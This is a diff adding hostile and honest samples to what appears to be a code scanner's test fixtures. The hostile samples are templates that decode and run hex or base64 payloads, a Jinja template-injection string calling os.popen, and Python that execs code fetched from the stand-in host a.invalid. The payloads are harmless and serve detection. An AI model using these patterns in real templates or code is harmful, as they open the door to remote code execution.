@@ -40,6 +40,14 @@ def _asked(text: str, name: str = "app.js") -> str:
     return _ENGINE + text + "};\nshown();\n"
 
 
+_HEX = "636f6e736f6c652e6c6f672827353220737072697465732729"
+_CYCLER = "<p>{{ cycler.__init__.__globals__.os.popen('echo hello').read() }}</p>\n"
+
+
+def _view(name: str, text: str) -> dict[str, str | bytes]:
+    return {"package.json": package(start="node a.js"), "a.js": f"require('shown').page('{name}');\n", name: text}
+
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_template": {
         "an imported function of a large library makes one": Sample(
@@ -79,7 +87,38 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             line=4,
         ),
     },
+    "decoded_code": {
+        "in the tags of a template": Sample(
+            _view(
+                "a.ejs",
+                f"<ul>\n<% for (const row of rows) {{ %>\n<li><%= row %></li>\n<% }} %>\n"
+                f"<% new Function(Buffer.from('{_HEX}', 'hex').toString())() %>\n</ul>\n",
+            ),
+            "block",
+            ("a.ejs", 5),
+        ),
+        "on the lines of a template": Sample(
+            _view("a.pug", f"doctype html\n- eval(Buffer.from('{_HEX}', 'hex').toString())\np hello\n"),
+            "block",
+            ("a.pug", 2),
+        ),
+        "in a block of a template of Python's": Sample(
+            {"a.mako": "<p>\n<%\n  import base64\n  exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n%>\n</p>\n"},
+            "block",
+            ("a.mako", 4),
+        ),
+    },
+    "shipped_object": {
+        "a template that reaches for the system": Sample({"a.html": _CYCLER}, "review", ("a.html", 1)),
+        "another, by its name": Sample({"a.j2": _CYCLER}, "review", ("a.j2", 1)),
+    },
     "remote_code": {
+        "by a service that is declared as a field": py(
+            "import requests\nfrom dataclasses import dataclass\nclass Feed:\n    def text(self):\n"
+            "        return requests.get('https://a.invalid').text\n@dataclass\nclass Job:\n    feed: Feed\n"
+            "    def run(self):\n        exec(self.feed.text())\n",
+            line=10,
+        ),
         "a document that is a program": Sample(
             {
                 "package.json": package(start="node a.mjs"),
@@ -108,7 +147,28 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "pages.get_template('a').render(rows=requests.get('https://a.invalid').json())\n"
         },
     },
+    "decoded_code": {
+        "what the tags of a template show": _view(
+            "a.ejs", f"<ul>\n<%# new Function(text)() %>\n<li><%= Buffer.from('{_HEX}', 'hex').length %></li>\n</ul>\n"
+        ),
+        "what the lines of a template show": _view("a.pug", f"doctype html\np= Buffer.from('{_HEX}', 'hex').length\n"),
+        "what a template of Python's shows": {
+            "a.mako": "<p>\n<%\n  import base64\n  text = base64.b64decode('cHJpbnQoJ2hlbGxvJyk=')\n%>\n${len(text)}\n"
+        },
+    },
+    "shipped_object": {
+        "a template that counts": {"a.html": "<p>{{ cycler.next() }} {% import 'b.html' as b %}</p>\n"},
+    },
     "remote_code": {
+        "a function that is injected, and given an answer": {
+            "app.ts": "class Job {\n  constructor(private readonly done: Function) {}\n  async run() {\n"
+            "    this.done(await (await fetch('https://a.invalid')).text());\n  }\n}\nnew Job(console.log).run();\n"
+        },
+        "a text that is injected, in other letters": {
+            "app.py": "import requests\nclass Job:\n    def __init__(self, text: str):\n"
+            "        self.text = text.strip()\n"
+            "Job(requests.get('https://a.invalid').text)\n"
+        },
         "a document that is shown": {
             "package.json": package(start="node a.mjs"),
             "a.mjs": "import { evaluate } from '@mdx-js/mdx';\nimport { readFile } from 'node:fs/promises';\n"
